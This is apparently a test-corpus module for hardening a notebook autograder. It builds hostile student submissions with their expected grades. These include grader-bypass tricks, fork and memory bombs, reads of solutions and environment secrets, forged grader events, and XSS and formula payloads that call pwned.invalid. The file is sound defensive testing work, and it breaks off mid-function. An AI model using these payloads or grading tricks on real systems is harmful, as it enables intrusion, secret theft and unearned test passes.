"""A corpus of hostile and broken submissions, with the grade each one must get.

Made from an assignment's release (what students get) and source (the
instructor's solutions): an honest submission is the release with the solution
code typed in; each hostile one adds a trick to it, or to the blank release
(whose functions all raise NotImplementedError, so every point it gets is
stolen).  The expectations are written for an assignment whose graded
functions are defined in separate solution cells, in order, each with its own
test cell (``01_rnn_cell``: ``rnn_step_forward``, ``rnn_forward``,
``output_layer``).

    python tests/hostile/corpus.py COURSE ASSIGNMENT    write submitted/<case>/<assignment>/ in COURSE

Each :class:`Case` says what it does, how it is made, the points of every test
cell (``expect``, indexed like the functions), whether it must be quarantined,
and what must appear in the report.
"""

from __future__ import annotations

import copy
import json
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

STUB = "raise NotImplementedError"


@dataclass
class Case:
    name: str
    what: str
    make: object  # make(kit) -> writes the submission folder
    expect: tuple | None = None  # points per function as a fraction of the cell's points (1 or 0); None: quarantined
    review: bool = False  # must be listed for a human look
    reason: str = ""  # must appear in the report (quarantine reason or a death), lower case
    honest: bool = False


@dataclass
class Kit:
    """What the makers work from."""

    course: Path
    assignment: str
    release: nbformat.NotebookNode
    source: nbformat.NotebookNode
    folder: Path = None  # set per case
    solution_ids: list = field(default_factory=list)
    test_ids: list = field(default_factory=list)

    @classmethod
    def load(cls, course, assignment):
        course = Path(course)
        release = nbformat.read(course / "exercises" / assignment / f"{assignment}.ipynb", as_version=4)
        source = nbformat.read(course / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)
        kit = cls(course, assignment, release, source)
        for cell in release.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("solution") and not meta.get("grade"):
                kit.solution_ids.append(meta["grade_id"])
            elif meta.get("grade") and not meta.get("solution") and cell.cell_type == "code":
                kit.test_ids.append(meta["grade_id"])
        return kit

    # --- notebooks ---------------------------------------------------------------------------------------

    def blank(self):
        return copy.deepcopy(self.release)

    def honest(self):
        notebook = copy.deepcopy(self.release)
        answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in self.source.cells if _grade_id(c)}
        for cell in notebook.cells:
            if _grade_id(cell) in self.solution_ids:
                cell.source = _typed(answers[_grade_id(cell)])
        return notebook

    def cell(self, notebook, grade_id):
        return next(c for c in notebook.cells if _grade_id(c) == grade_id)

    def solution(self, notebook, number):
        return self.cell(notebook, self.solution_ids[number])

    def test(self, notebook, number):
        return self.cell(notebook, self.test_ids[number])

    def add_cell(self, notebook, after_solution, code):
        """A cell the student added (no nbgrader metadata) after solution cell ``after_solution``."""
        position = notebook.cells.index(self.solution(notebook, after_solution)) + 1
        notebook.cells.insert(position, nbformat.v4.new_code_cell(code))
        return notebook

    def write(self, notebook, name=None):
        self.folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, self.folder / f"{name or self.assignment}.ipynb")


def _grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _typed(text):
    """A solution as a student types it: the markers removed."""
    return "\n".join(
        line for line in text.splitlines() if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")
    )


# --- makers --------------------------------------------------------------------------------------------------


def _honest(kit):
    kit.write(kit.honest())


def _blank(kit):
    kit.write(kit.blank())


def _partly(kit):
    """A typical mistake in the first function: sigmoid in place of tanh."""
    notebook = kit.honest()
    cell = kit.solution(notebook, 0)
    assert "np.tanh(" in cell.source
    cell.source = cell.source.replace("np.tanh(", "(lambda a: 1 / (1 + np.exp(-a)))(", 1)
    kit.write(notebook)


def _mutates(kit):
    """Right outputs, but the first function zeroes its input ``x`` in place."""
    notebook = kit.honest()
    cell = kit.solution(notebook, 0)
    lines = cell.source.splitlines()
    position = next(i for i, line in enumerate(lines) if line.strip().startswith("return "))
    indent = lines[position][: len(lines[position]) - len(lines[position].lstrip())]
    lines.insert(position, f"{indent}x[...] = 0")
    cell.source = "\n".join(lines)
    kit.write(notebook)


def _syntax_error(kit):
    notebook = kit.honest()
    cell = kit.solution(notebook, 0)
    cell.source = cell.source.replace("def ", "def def ", 1)
    kit.write(notebook)


def _warning(kit):
    """Correct, but every call warns on stderr (plain nbgrader scores a stderr output zero)."""
    notebook = kit.honest()
    cell = kit.solution(notebook, 0)
    cell.source = "import warnings\n\n" + cell.source.replace(
        '    """\n', '    """\n    warnings.warn("this step is computed the slow way", RuntimeWarning)\n', 1
    )
    assert "warnings.warn" in cell.source
    kit.write(notebook)


def _preamble(code):
    """A maker: ``code`` at the top of the first solution cell of the blank release."""

    def make(kit):
        notebook = kit.blank()
        cell = kit.solution(notebook, 0)
        cell.source = code + "\n\n" + cell.source
        kit.write(notebook)

    return make


def _replace_solutions(codes):
    """A maker: solution cell ``i`` replaced by ``codes[i]``."""

    def make(kit):
        notebook = kit.blank()
        for number, code in enumerate(codes):
            kit.solution(notebook, number).source = code
        kit.write(notebook)

    return make


def _extra_cell(code, after=0):
    """A maker: the honest notebook with a cell of the student's own after solution ``after``."""

    def make(kit):
        kit.write(kit.add_cell(kit.honest(), after, code.format(course=kit.course, assignment=kit.assignment)))

    return make


def _honest_then(code, number):
    """A maker: ``code`` appended to the honest solution cell ``number`` (after its function)."""

    def make(kit):
        notebook = kit.honest()
        cell = kit.solution(notebook, number)
        cell.source = cell.source + "\n\n\n" + code
        kit.write(notebook)

    return make


def _honest_before(code, number):
    """A maker: ``code`` at the top of the honest solution cell ``number`` (before its function)."""

    def make(kit):
        notebook = kit.honest()
        cell = kit.solution(notebook, number)
        cell.source = code + "\n\n\n" + cell.source
        kit.write(notebook)

    return make


def _function_loops(kit):
    notebook = kit.honest()
    cell = kit.solution(notebook, 1)
    cell.source = cell.source.replace('    """\n', '    """\n    while True:\n        pass\n', 1)
    kit.write(notebook)


def _renamed(kit):
    kit.write(kit.honest(), name=f"{kit.assignment} (1)")


def _missing(kit):
    kit.folder.mkdir(parents=True, exist_ok=True)
    (kit.folder / "timestamp.txt").write_text("2025-01-01 12:00:00.000000 UTC")


def _corrupt_json(kit):
    kit.folder.mkdir(parents=True, exist_ok=True)
    text = nbformat.writes(kit.honest())
    (kit.folder / f"{kit.assignment}.ipynb").write_text(text[: len(text) // 2])


def _not_a_notebook(kit):
    kit.folder.mkdir(parents=True, exist_ok=True)
    (kit.folder / f"{kit.assignment}.ipynb").write_text(json.dumps({"cells": "all of them", "nbformat": 4}))


def _edited_test(kit):
    notebook = kit.honest()
    kit.test(notebook, 0).source = "pass  # the test was here"
    kit.write(notebook)


def _deleted_test(kit):
    notebook = kit.blank()
    notebook.cells.remove(kit.test(notebook, 1))
    kit.write(notebook)


def _duplicated_test(kit):
    notebook = kit.honest()
    test = kit.test(notebook, 0)
    copy_of = copy.deepcopy(test)
    copy_of.id = "copy-of-test"
    notebook.cells.insert(notebook.cells.index(test) + 1, copy_of)
    kit.write(notebook)


def _tampered_points(kit):
    notebook = kit.blank()
    kit.test(notebook, 0).metadata["nbgrader"]["points"] = 200
    kit.write(notebook)


def _unknown_grade_cell(kit):
    notebook = kit.honest()
    cell = nbformat.v4.new_code_cell("print('bonus')")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus_points",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    notebook.cells.append(cell)
    kit.write(notebook)


def _symlink(kit):
    kit.folder.mkdir(parents=True, exist_ok=True)
    target = kit.course / "solutions" / kit.assignment / f"{kit.assignment}.ipynb"
    os.symlink(target, kit.folder / f"{kit.assignment}.ipynb")


def _linked_student(kit):
    """submitted/<student> is a link to another student's folder (written before: honest_correct)."""
    os.symlink(kit.course / "submitted" / "honest_correct", kit.folder.parent, target_is_directory=True)


# --- the corpus ----------------------------------------------------------------------------------------------

FULL, ZERO = (1, 1, 1), (0, 0, 0)

CASES = [
    # honest students
    Case("honest_correct", "every function right", _honest, FULL, honest=True),
    Case("honest_partly", "sigmoid for tanh in the first function", _partly, (0, 1, 1), honest=True),
    Case("honest_blank", "the release as handed out", _blank, ZERO, honest=True),
    Case("honest_mutates", "the first function zeroes its input in place", _mutates, (0, 1, 1), honest=True),
    Case("honest_syntax_error", "a syntax error in the first function", _syntax_error, (0, 1, 1), honest=True),
    Case("honest_warning", "right, but prints a warning on stderr", _warning, FULL, honest=True),
    # tricks that give plain nbgrader full marks for wrong answers
    Case(
        "patch_checks",
        "replaces np.testing.assert_allclose and rnn_checks' checks by no-ops",
        _preamble(
            "import numpy as np\nimport rnn_checks\n"
            "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
            "rnn_checks.check = rnn_checks.grade = rnn_checks.check_example = lambda *a, **k: print('✓ all good')"
        ),
        ZERO,
        review=True,
    ),
    Case(
        "input_transformer",
        "an IPython input transformer that empties every later test cell",
        _preamble(
            "get_ipython().input_transformers_cleanup.append(\n"
            "    lambda lines: [] if any('rnn_checks.' in line for line in lines) else lines\n)"
        ),
        ZERO,
        review=True,
    ),
    Case(
        "custom_exc",
        "an IPython exception handler that swallows every error",
        _preamble("get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)"),
        ZERO,
        review=True,
    ),
    Case(
        "delegate",
        "imports the reference functions under the graded names",
        _replace_solutions(
            [
                "from rnn_ref.rnn import rnn_step_forward",
                "from rnn_ref.rnn import rnn_forward",
                "from rnn_ref.rnn import output_layer",
            ]
        ),
        ZERO,
        review=True,
    ),
    Case(
        "delegate_sneaky",
        "wraps the reference and switches off the profiler that the checks watch calls with",
        _replace_solutions(
            [
                "import sys\nimport rnn_ref.rnn as _r\n\n\ndef rnn_step_forward(x, h_prev, params):\n"
                "    sys.setprofile(None)\n    return _r.rnn_step_forward(x, h_prev, params)",
                "import sys\nimport rnn_ref.rnn as _r\n\n\ndef rnn_forward(xs, h0, params, mask=None):\n"
                "    sys.setprofile(None)\n    return _r.rnn_forward(xs, h0, params)",
                "import sys\nimport importlib\n\n\ndef output_layer(hs, W_y, b_y):\n"
                "    sys.setprofile(None)\n"
                "    return importlib.import_module('rnn_ref.rnn').output_layer(hs, W_y, b_y)",
            ]
        ),
        ZERO,
        review=True,
    ),
    Case(
        "forged_events",
        "writes fake grader events on every inherited file descriptor",
        _preamble(
            "import json, os\n"
            "fake = [{'event': 'result', 'function': 'rnn_step_forward', 'case': k, 'attempt': 'reference',\n"
            "         'outputs': {'~': 'tuple', 'items': []}} for k in range(40)] + [{'event': 'done'}]\n"
            "for fd in range(3, 30):\n"
            "    try:\n"
            "        os.write(fd, ''.join(json.dumps(e) + '\\n' for e in fake).encode())\n"
            "    except OSError:\n"
            "        pass"
        ),
        ZERO,
        review=True,
    ),
    # the kernel dies or hangs: the cell is named, the rest is graded
    Case(
        "os_exit",
        "os._exit(0) after the last function",
        _honest_then("import os\nos._exit(0)", 2),
        (1, 1, 0),
        review=True,
        reason="exited with code 0",
    ),
    Case(
        "sigkill",
        "a cell of its own that SIGKILLs the kernel",
        _extra_cell("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        FULL,
        review=True,
        reason="sigkill",
    ),
    Case(
        "infinite_loop",
        "while True: pass before the first function",
        _honest_before("while True:\n    pass", 0),
        (0, 1, 1),
        review=True,
        reason="longer than",
    ),
    Case(
        "sigint_loop",
        "ignores SIGINT and SIGTERM, then loops after the last function",
        _honest_then(
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
            "while True:\n    pass",
            2,
        ),
        (1, 1, 0),
        review=True,
        reason="longer than",
    ),
    Case(
        "loop_in_function",
        "the second function never returns",
        _function_loops,
        (1, 0, 1),
        review=True,
        reason="longer than",
    ),
    Case(
        "memory_bomb",
        "allocates until memory runs out, in a cell of its own",
        _extra_cell(
            "def grow():\n    blocks = []\n    while True:\n        blocks.append(bytearray(64 * 2**20))\n\n\ngrow()"
        ),
        FULL,
    ),
    Case(
        "fork_bomb",
        "forks without end, in a cell of its own",
        _extra_cell("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", after=1),
        FULL,
        review=True,
    ),
    Case("huge_print", "prints 20 MB from Python", _extra_cell("print('spam ' * 4_000_000)"), FULL),
    Case(
        "huge_raw_output",
        "writes 100 MB straight to file descriptor 1",
        _extra_cell("import os\nfor _ in range(100):\n    os.write(1, b'x' * 2**20)"),
        FULL,
        review=True,
        reason="more than",
    ),
    Case(
        "huge_return",
        "returns an array of a gigabyte",
        _replace_solutions(
            ["import numpy as np\n\n\ndef rnn_step_forward(x, h_prev, params):\n    return np.ones(2**27), None"]
        ),
        ZERO,
    ),
    Case(
        "write_outside",
        "writes into the gradebook, the course and the package",
        _extra_cell(
            "import os\n"
            "for path in ['{course}/gradebook.db', '{course}/solutions/x.py', '../../../gradebook.db',\n"
            "             '/tmp/../etc/x', os.path.dirname(__import__('numpy').__file__) + '/x.py']:\n"
            "    try:\n"
            "        with open(path, 'w') as f:\n"
            "            f.write('owned')\n"
            "        print('WROTE', path)\n"
            "    except OSError as e:\n"
            "        print('refused', path, type(e).__name__)"
        ),
        FULL,
        review=True,
    ),
    Case(
        "read_solutions",
        "reads the solutions, the gradebook and the environment, and prints them",
        _extra_cell(
            "import os, glob\n"
            "for path in ['{course}/solutions/{assignment}/{assignment}.ipynb', '{course}/gradebook.db',\n"
            "             '../../../solutions/{assignment}/{assignment}.ipynb', '/proc/1/environ']:\n"
            "    try:\n"
            "        print(path, open(path, 'rb').read()[:3000])\n"
            "    except OSError as e:\n"
            "        print('cannot read', path, type(e).__name__)\n"
            "print(os.listdir('/'), glob.glob('/tmp/**', recursive=True)[:50])\n"
            "print(glob.glob('/opt/**', recursive=True)[:50])\n"
            "print(dict(os.environ))"
        ),
        FULL,
        review=True,
    ),
    Case(
        "network",
        "opens connections to the internet and to the host",
        _extra_cell(
            "import socket\n"
            "for host, port in [('pypi.org', 443), ('1.1.1.1', 53), ('127.0.0.1', 22)]:\n"
            "    try:\n"
            "        socket.create_connection((host, port), timeout=2)\n"
            "        print('CONNECTED', host)\n"
            "    except OSError as e:\n"
            "        print('no', host, e)"
        ),
        FULL,
        review=True,
    ),
    # broken submissions: quarantined with a reason
    Case("renamed", "the notebook saved under another name", _renamed, None, review=True, reason="renamed?"),
    Case("missing", "no notebook at all", _missing, None, review=True, reason="is missing"),
    Case("corrupt_json", "the notebook cut in half", _corrupt_json, None, review=True, reason="not valid json"),
    Case(
        "not_a_notebook", "JSON, but not a notebook", _not_a_notebook, None, review=True, reason="not a valid notebook"
    ),
    Case(
        "edited_test",
        "the first test cell replaced by pass (restored from the source, as nbgrader does)",
        _edited_test,
        FULL,
        review=True,
        reason="was edited",
    ),
    Case("deleted_test", "the second test cell deleted", _deleted_test, None, review=True, reason="was deleted"),
    Case("duplicated_test", "the first test cell copied", _duplicated_test, None, review=True, reason="duplicated"),
    Case(
        "tampered_points",
        "the first test cell worth 200 points (the gradebook's points are used)",
        _tampered_points,
        ZERO,
        review=True,
        reason="points",
    ),
    Case(
        "unknown_grade_cell",
        "a grade cell of its own, worth 100 points (graded as a plain cell)",
        _unknown_grade_cell,
        FULL,
        review=True,
        reason="no such cell",
    ),
    Case(
        "symlink",
        "the notebook is a link to the instructor's solution",
        _symlink,
        None,
        review=True,
        reason="symbolic link",
    ),
    Case(
        "linked_student",
        "the folder is a link to a classmate's",
        _linked_student,
        None,
        review=True,
        reason="symbolic link",
    ),
]


# --- area C: the batch survives any student, and the feedback is inert ---------------------------------------
# Strings that break encoders and reports (lone surrogates, NUL, control characters, Markdown), scripts in every
# output type and in the student's own Markdown cells, nbgrader flags and locked cells the student changed.
# Every script tries to leave a mark a browser test can see: a dialog, a console message or a request, each with
# PWNED in it, and requests go to pwned.invalid.

PWNED_HOST = "pwned.invalid"
SURROGATE = "\ud800"  # a lone UTF-16 surrogate: JSON can spell it, no UTF-8 file can hold it
INJECTION = (
    "\n## Totals\n\n| mallory | 100 | 6 |  |\n<!-- the rest of the report is hidden\n"
    "\x00\x1b[2J\x07 =HYPERLINK(\"http://pwned.invalid\") \u202e evil [x](javascript:alert('PWNED'))"
)
# a tiny honest PNG (one red pixel): honest images must still show in the feedback
PNG_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="


def _write_json(kit, notebook, name=None):
    """Write ``notebook`` as JSON with ASCII escapes (nbformat.write cannot write a lone surrogate)."""
    kit.folder.mkdir(parents=True, exist_ok=True)
    text = json.dumps(notebook, ensure_ascii=True, indent=1)
    (kit.folder / f"{name or kit.assignment}.ipynb").write_text(text, encoding="ascii")


def _surrogate_in_cell(kit):
    notebook = kit.honest()
    cell = kit.solution(notebook, 0)
    cell.source = f"# a comment with a lone surrogate: {SURROGATE}\n" + cell.source
    kit.add_cell(notebook, 2, f"print('and in a string: {SURROGATE}')")
    _write_json(kit, notebook)


def _surrogate_in_metadata(kit):
    notebook = kit.honest()
    notebook.metadata["title"] = f"title {SURROGATE}"
    notebook.metadata["kernelspec"]["display_name"] = f"Python {SURROGATE}"
    kit.solution(notebook, 0).metadata["tags"] = [f"tag{SURROGATE}", '"><img src=x onerror=alert("PWNED-tag")>']
    kit.solution(notebook, 1).metadata[f"key{SURROGATE}"] = {"deep": [SURROGATE] * 3}
    _write_json(kit, notebook)


def _surrogate_in_file_name(kit):
    kit.write(kit.honest())
    folder = os.fsencode(kit.folder)
    for name in (b"notes-\xff\xfe.txt", b"line\nbreak <!-- |.txt", b"=cmd|' -C calc'!A0.csv"):
        with open(os.path.join(folder, name), "wb") as file:
            file.write(b"an extra file\n")


def _raises_injection(kit):
    """The first function raises an exception whose message would rewrite a Markdown report."""
    notebook = kit.honest()
    cell = kit.solution(notebook, 0)
    message = INJECTION.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\x00", "\\x00")
    message = message.replace("\x1b", "\\x1b").replace("\x07", "\\x07")
    cell.source = cell.source.replace('    """\n', f'    """\n    raise ValueError("{message}" + "x" * 200_000)\n', 1)
    kit.write(notebook)


def _forged_death(kit):
    """A cell of the blank release announces a call whose name is a Markdown report, then ends the process."""
    code = (
        "import json, os\n"
        f"name = {INJECTION!r} + {SURROGATE!r}\n"
        "event = json.dumps({'event': 'start', 'kind': 'call', 'function': name, 'case': 0}) + '\\n'\n"
        "for fd in range(3, 30):\n"
        "    try:\n"
        "        os.write(fd, event.encode('utf-8', 'surrogatepass'))\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(3)"
    )
    notebook = kit.add_cell(kit.blank(), 0, code)
    _write_json(kit, notebook)


OUTPUTS_CODE = r"""
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, Math, display

def _pwn(what):
    return f"alert('PWNED-{what}'); console.log('PWNED-{what}'); fetch('http://pwned.invalid/{what}')"

display(HTML(f'<b>honest-html-output</b><script>{_pwn("html")}</script>'
             f'<img src=x onerror="{_pwn("html-img")}">'
             f'<iframe srcdoc="<script>parent.{_pwn("iframe")}</script>"></iframe>'
             f'<a href="javascript:{_pwn("html-link")}">html-link</a>'
             f'<style>body {{ background: url(http://pwned.invalid/css) }}</style>'))
display(Markdown(f'**honest-markdown-output** <script>{_pwn("md")}</script> '
                 f'<img src=x onerror="{_pwn("md-img")}"> [md-link](javascript:{_pwn("md-link")}) '
                 '$\\href{javascript:alert("PWNED-md-tex")}{md-tex}$'))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_pwn("svg")}">'
            f'<script>{_pwn("svg-script")}</script><circle r="4"/></svg>'))
display(Latex(r'$\href{javascript:alert("PWNED-latex")}{latex-link}$ and honest $x^2$'))
display(Math(r'\href{javascript:alert("PWNED-math")}{math-link}'))
display(Javascript(_pwn("js")))
display({"text/html": f"<script>{_pwn('bundle')}</script>", "application/javascript": _pwn("bundle-js"),
         "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
         "text/plain": "honest-bundle-text"}, raw=True)
display({"text/html": f"<img src=x onerror=\"{_pwn('isolated')}\">"}, raw=True,
        metadata={"text/html": {"isolated": True}})
display(Image(data=__import__("base64").b64decode("PNG_PIXEL"), format="png"))
print(f'honest-stream-output <script>{_pwn("stream")}</script> \x1b[31mred\x1b[0m \x00\x07')


class Shown:
    def _repr_html_(self):
        return f'<script>{_pwn("repr")}</script><img src=x onerror="{_pwn("repr-img")}">'

    def _repr_markdown_(self):
        return f"[repr-link](javascript:{_pwn('repr-link')})"


Shown()
""".replace("PNG_PIXEL", PNG_PIXEL)

ERROR_CODE = "raise ValueError(\"<script>alert('PWNED-error')</script><img src=x onerror=alert('PWNED-error-img')>\")"


def _outputs_script(kit):
    notebook = kit.honest()
    kit.add_cell(notebook, 0, OUTPUTS_CODE)
    kit.add_cell(notebook, 1, ERROR_CODE)
    kit.write(notebook)


MARKDOWN_CELL = """## honest-markdown-heading

An *honest* answer with math $h_t = \\tanh(W_x x_t + W_h h_{t-1} + b)$ and a table:

| a | b |
| --- | --- |
| 1 | 2 |

# cell <script>alert('PWNED-cell')</script>
<img src=x onerror="alert('PWNED-cell-img')">
<iframe src="javascript:alert('PWNED-cell-iframe')"></iframe>
[cell-link](javascript:alert('PWNED-cell-link')) <a href="jav&#x09;ascript:alert('PWNED-cell-link2')">cell-link2</a>
<svg><script>alert('PWNED-cell-svg')</script></svg> <svg onload="alert('PWNED-cell-svg2')"></svg>
<style>body { display: none } * { background: url(http://pwned.invalid/style) }</style>
<meta http-equiv="refresh" content="0;url=javascript:alert('PWNED-meta')">
<base href="http://pwned.invalid/">
<object data="javascript:alert('PWNED-object')"></object><embed src="javascript:alert('PWNED-embed')">
<form action="javascript:alert('PWNED-form')"><button>form-button</button></form>
<details open ontoggle="alert('PWNED-details')"><summary>s</summary></details>
<a href="data:text/html,<script>alert('PWNED-data')</script>">data-link</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert('PWNED-hover')">cover</div>
$\\href{javascript:alert('PWNED-cell-tex')}{cell-tex}$
![pixel](http://pwned.invalid/pixel.png) <img src="http://pwned.invalid/img.png">
<!-- a comment hiding the rest
"""


def _markdown_cell_script(kit):
    notebook = kit.honest()
    position = notebook.cells.index(kit.solution(notebook, 0)) + 1
    notebook.cells.insert(position, nbformat.v4.new_markdown_cell(MARKDOWN_CELL))
    missing = nbformat.v4.new_markdown_cell("![missing](attachment:missing.png) honest-after-missing-attachment")
    with_image = nbformat.v4.new_markdown_cell("![pixel](attachment:pixel.png) honest-attachment")
    with_image["attachments"] = {"pixel.png": {"image/png": PNG_PIXEL}}
    notebook.cells.insert(position + 1, missing)
    notebook.cells.insert(position + 2, with_image)
    kit.write(notebook)


def _reflagged_solution(kit):
    """The first solution cell re-marked as a 50-point grade cell, and a read-only cell unlocked."""
    notebook = kit.honest()
    meta = kit.solution(notebook, 0).metadata["nbgrader"]
    meta.update(grade=True, points=50, locked=True)
    kit.test(notebook, 1).metadata["nbgrader"]["locked"] = False
    kit.write(notebook)


def _print_in_test(kit):
    notebook = kit.honest()
    test = kit.test(notebook, 0)
    test.source = "print('my own check')\n" + test.source
    kit.write(notebook)


def _test_made_markdown(kit):
    notebook = kit.honest()
    test = kit.test(notebook, 1)
    position = notebook.cells.index(test)
    markdown_cell = nbformat.v4.new_markdown_cell(test.source, metadata=copy.deepcopy(test.metadata))
    markdown_cell.id = test.id
    notebook.cells[position] = markdown_cell
    kit.write(notebook)


CASES += [
    Case(
        "surrogate_in_cell",
        "lone surrogates in a solution cell and a cell of its own",
        _surrogate_in_cell,
        FULL,
        reason="surrogate",
    ),
    Case(
        "surrogate_in_metadata",
        "lone surrogates (and HTML) in the notebook's and cells' metadata",
        _surrogate_in_metadata,
        FULL,
        reason="surrogate",
    ),
    Case(
        "surrogate_in_file_name",
        "extra files named with bytes that are not UTF-8, a new line, a formula",
        _surrogate_in_file_name,
        FULL,
        reason="extra files",
    ),
    Case(
        "raises_injection",
        "the first function raises 200 KB of Markdown, NUL, ANSI and a formula",
        _raises_injection,
        (0, 1, 1),
        honest=False,
    ),
    Case(
        "forged_death",
        "a cell announces a call named like a Markdown report, then exits",
        _forged_death,
        ZERO,
        review=True,
        reason="exited with code 3",
    ),
    Case(
        "outputs_script",
        "scripts in every output type (HTML, Markdown, SVG, LaTeX, JavaScript, bundles, errors)",
        _outputs_script,
        FULL,
    ),
    Case(
        "markdown_cell_script",
        "scripts, frames, forms and links in the student's own Markdown cells",
        _markdown_cell_script,
        FULL,
    ),
    Case(
        "reflagged_solution",
        "a solution cell re-marked as a 50-point grade cell, a test cell unlocked",
        _reflagged_solution,
        FULL,
        review=True,
        reason="flags",
    ),
    Case(
        "print_in_test",
        "a print added to the first test cell (restored, as nbgrader does)",
        _print_in_test,
        FULL,
        review=True,
        reason="was edited",
    ),
    Case(
        "test_made_markdown",
        "the second test cell turned into a Markdown cell (restored)",
        _test_made_markdown,
        FULL,
        review=True,
        reason="markdown cell",
    ),
    # student ids (folder names under submitted/): printable ones are graded and escaped in the report, others are
    # quarantined (nbgrader's gradebook and feedback cannot take them)
    Case("mallory <!-- | **100** | # [x](javascript:alert(1))", "a student id made of Markdown", _honest, FULL),
    Case("=HYPERLINK(1)", "a student id that is a spreadsheet formula", _blank, ZERO),
    Case("eve\n## Totals", "a student id with a new line", _honest, None, review=True, reason="not printable"),
    Case(
        "id-\udcff\udcfe",
        "a student id that is not UTF-8 (bytes 0xff 0xfe)",
        _honest,
        None,
        review=True,
        reason="not printable",
    ),
]


# --- area A (issue 10): the judge follows the notebook, trusts nothing from the sandbox, the work is the student's
#
# Cases of 01_rnn_cell, graded in the batch above; and OWN_WORK_CASES, of 08_lstm_gates (backward passes),
# graded in a batch of their own with an honest correct and an honest blank student
# (tests/test_grader_own_work.py).


def _blank_extra_cell(code, after):
    """A maker: the blank release with a cell of the student's own after solution ``after``."""

    def make(kit):
        kit.write(kit.add_cell(kit.blank(), after, code))

    return make


def _blank_then(code, number):
    """A maker: ``code`` appended to the blank solution cell ``number`` (after its stub)."""

    def make(kit):
        notebook = kit.blank()
        cell = kit.solution(notebook, number)
        cell.source = cell.source + "\n\n\n" + code
        kit.write(notebook)

    return make


# The feedback run (where rnn_ref is whole) carries the source of rnn_step_forward out in the index of a
# forged "start" event, and dies there; the old pipeline passed the feedback's deaths to the judge as cells
# to skip, so the judge's run found the source in its job and defined the reference under its graded name.
_CARRY_THE_REFERENCE = """import inspect, json, os, sys, zlib

import rnn_ref.rnn as _r

try:  # output_layer is a stub in every judge's view of this notebook: only the feedback run has it
    _r.output_layer(np.zeros((1, 1, 1)), np.zeros((1, 1)), np.zeros(1))
    _whole = True
except Exception:
    _whole = False
if _whole:
    _source = inspect.getsource(_r.rnn_step_forward)
    _number = int.from_bytes(zlib.compress(_source.encode(), 9), "big")
    _line = ('{"event": "start", "kind": "cell", "index": %d}\\n' % _number).encode()
    for _fd in range(3, 30):
        try:
            os.write(_fd, _line)
        except OSError:
            pass
    os._exit(0)


def _numbers(value):
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _numbers(key)
            yield from _numbers(item)
    elif isinstance(value, list):
        for item in value:
            yield from _numbers(item)
    elif isinstance(value, str) and value.isdigit() and len(value) > 100:
        yield int(value)
    elif isinstance(value, int) and value > 10**100:
        yield value


try:
    _job = json.load(open("/job/job.json"))
except Exception:
    _job = {}
for _number in _numbers(_job):
    try:
        _text = zlib.decompress(_number.to_bytes((_number.bit_length() + 7) // 8, "big")).decode()
    except Exception:
        continue
    from rnn_ref.rnn import RNNStepCache

    def _check_step(x, h_prev, params):  # the reference's checks would call into rnn_ref: skipped
        return x, h_prev, params

    exec(_text, globals())
"""

# Forged answers: events for every step number the grader could hand out, a cell's end and a call's result
# alike (with a result of the wrong kind), then a line too long and a line nested too deep.
_FORGE_THE_STEPS = """import json, os

_events = [{"event": "ready"}]
for _step in range(1, 400):
    _events.append({"event": "cell_done", "step": _step, "error": None, "skipped": 0})
    _one = {"~": "array", "dtype": "<f8", "shape": [1, 1], "data": "AAAAAAAA8D8="}
    _events.append(
        {"event": "result", "step": _step, "defined": True, "own_helpers": True,
         "outputs": {"~": "tuple", "items": [_one, None]}, "calls": [], "warnings": ["x" * 100] * 3}
    )
_events.append({"event": "done"})
_data = "".join(json.dumps(_event) + "\\n" for _event in _events).encode()
_data += b"[" * 200_000 + b"\\n" + b'{"event": "' + b"x" * 300_000 + b'"}\\n'
for _fd in range(3, 30):
    try:
        os.write(_fd, _data)
    except OSError:
        pass
"""

# Looks for a working reference of each graded function by every route (the modules loaded, the garbage
# collector, the builtins, any copy of rnn_ref's source readable in the sandbox) and binds it under the
# graded name if it finds one.
_HUNT_THE_REFERENCE = """import builtins, gc, glob, os, sys

_params = {"W_x": np.ones((3, 2)), "W_h": np.ones((3, 3)), "b": np.ones(3)}
_probe = {
    "rnn_step_forward": (np.ones((1, 2)), np.ones((1, 3)), _params),
    "rnn_forward": (np.ones((2, 1, 2)), np.ones((1, 3)), _params),
    "output_layer": (np.ones((2, 1, 3)), np.ones((4, 3)), np.ones(4)),
}


def _works(fn, name):
    try:
        fn(*_probe[name])
        return True
    except Exception:
        return False


def _candidates():
    for module in list(sys.modules.values()):
        yield from list(getattr(module, "__dict__", {}).values())
    yield from gc.get_objects()
    yield from vars(builtins).values()
    roots = {"/tmp", "/opt", "/job", os.getcwd()} | {p for p in sys.path if "site-packages" in p or "rnn_ref" in p}
    for path in {path for root in roots for path in glob.glob(f"{root}/**/rnn.py", recursive=True)}:
        try:
            namespace = {"__name__": "rnn_ref.found", "__package__": "rnn_ref"}
            exec(compile(open(path, encoding="utf-8").read(), path, "exec"), namespace)
            yield from namespace.values()
        except Exception:
            continue


_found = {}
for _value in _candidates():
    _name = getattr(_value, "__name__", None)
